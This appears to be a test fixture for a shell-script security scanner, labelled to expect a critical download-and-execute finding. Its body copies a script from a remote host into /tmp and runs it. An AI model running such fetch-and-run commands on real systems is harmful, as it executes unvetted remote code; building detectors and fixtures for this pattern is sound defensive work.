# expect: shell.curl_pipe_shell critical
#!/bin/sh
scp deploy@203.0.113.9:/srv/i.sh /tmp/i.sh
sh /tmp/i.sh
